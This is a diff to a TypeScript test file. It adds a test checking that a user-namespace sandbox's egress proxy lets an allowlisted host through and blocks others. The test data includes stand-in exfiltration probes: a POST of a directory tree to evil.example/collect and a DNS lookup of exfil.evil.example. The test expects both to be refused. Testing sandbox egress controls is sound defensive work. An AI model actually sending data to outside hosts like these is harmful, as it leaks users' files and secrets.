@@ -6,7 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ConfigError, parseConfig } from '../../../src/config/schema';
 import { DEFAULT_HOSTS, hostAllowed, hostEntryProblem, MAX_COUNTED_HOSTS, OTHER_HOSTS } from '../../../src/domain/egress';
 import type { Log, WorkingCopy } from '../../../src/ports';
-import { prepareSandbox } from '../../../src/sandbox/command-runner';
+import { prepareSandbox, prepareUserNamespace } from '../../../src/sandbox/command-runner';
 import { startEgressProxy, type EgressProxy } from '../../../src/sandbox/egress/proxy';
 import { DEFAULT_NETWORK, type NetworkConfig } from '../../../src/steps/egress';
 import { prepareTools } from '../../../src/steps/sandbox-setup';
@@ -245,6 +245,31 @@ describe('model-written setup and commands in the real sandbox, with the allowli
     expect(r.setupFailure).toMatch(
       /^the setup command `.*` exited with 1: .*\. crew's egress proxy refused evil\.example \(1\) meanwhile: if the repository needs that host, add it to network\.allow in \.github\/crew\.yml$/,
     );
+  });
+
+  it('local mode’s user-namespace sandbox takes the same route: an allowed host by name, nothing else', async () => {
+    const proxy = await startEgressProxy({ allow: ['files.acme.test'], tempDir: temp, resolver: world.resolver });
+    try {
+      const prepared = await prepareUserNamespace(ws, join(temp, 'userns'), { socket: proxy.socket });
+      if (!('runner' in prepared)) throw new Error(`this machine allows user namespaces, yet: ${prepared.reason}`);
+      expect(prepared.egressProblem).toBeUndefined();
+      const run = await prepared.runner.run(
+        probe('get|http://files.acme.test/data.txt', 'post|http://evil.example/collect|tree', 'lookup|exfil.evil.example'),
+        {
+          cwd: ws,
+          timeoutMs: 20_000,
+          maxOutputBytes: 10_000,
+          network: 'allowlist',
+        },
+      );
+      const out = lines(run.output);
+      expect(out['get|http://files.acme.test/data.txt']).toMatchObject({ status: 200, text: 'allowed bytes' });
+      expect(out['post|http://evil.example/collect|tree']).toMatchObject({ status: 403 });
+      expect(out['lookup|exfil.evil.example']!.error).toBeTruthy();
+      expect(proxy.refused()).toEqual({ 'evil.example': 1 });
+    } finally {
+      await proxy.close();
+    }
   });
 
   describe('where the sandbox cannot reach the proxy', () => {
